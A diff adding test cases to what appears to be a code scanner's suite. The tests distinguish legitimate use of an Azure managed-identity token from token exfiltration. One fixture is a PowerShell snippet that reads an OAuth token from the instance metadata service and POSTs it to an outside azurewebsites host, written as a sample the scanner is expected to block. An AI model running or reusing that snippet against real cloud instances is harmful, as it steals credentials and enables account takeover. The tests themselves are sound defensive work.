@@ -525,3 +525,43 @@ def test_sample_strings_in_a_file_that_evaluates_them_block(tmp_path: Path) -> N
         "samples.forEach((s) => eval(s));\n"
     )
     assert blocking(tmp_path, {"lib/samples.js": code})
+
+
+# ------------------------------------------------ an instance's own credentials used at its own cloud
+
+
+_IMDS = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fstorage.azure.com"
+
+
+def test_a_managed_identity_token_used_at_its_own_storage_api_does_not_block(tmp_path: Path) -> None:
+    code = (
+        "param([string]$Account)\n"
+        f"$t = Invoke-RestMethod -Headers @{{ Metadata = 'true' }} -Uri '{_IMDS}'\n"
+        '$u = "https://$Account.blob.core.windows.net/reports?comp=list"\n'
+        "Invoke-RestMethod -Uri $u -Headers @{ Authorization = \"Bearer $($t.access_token)\"; 'x-ms-version' = '2020-04-08' }\n"
+    )
+    assert blocking(tmp_path, {"list.ps1": code}) == {}
+
+
+def test_a_managed_identity_token_sent_to_a_web_app_blocks(tmp_path: Path) -> None:
+    code = (
+        f"$t = Invoke-RestMethod -Headers @{{ Metadata = 'true' }} -Uri '{_IMDS}'\n"
+        '$u = "https://telemetry-sink.azurewebsites.net/t"\n'
+        "Invoke-RestMethod -Method Post -Uri $u -Body $t.access_token\n"
+    )
+    assert blocking(tmp_path, {"list.ps1": code})
+
+
+def test_arrays_in_a_helper_function_read_for_its_callers_are_read(tmp_path: Path) -> None:
+    code = (
+        "function pick() {\n"
+        '  const names = ["alpha", "beta"];\n'
+        "  return names[0];\n"
+        "}\n"
+        "function send(v) {\n"
+        '  const parts = ["a", "b"];\n'
+        '  return fetch("https://h.example.test/" + parts.join("/"), { method: "POST", body: v });\n'
+        "}\n"
+        "send(pick());\n"
+    )
+    assert blocking(tmp_path, {"lib/util.js": code}) == {}
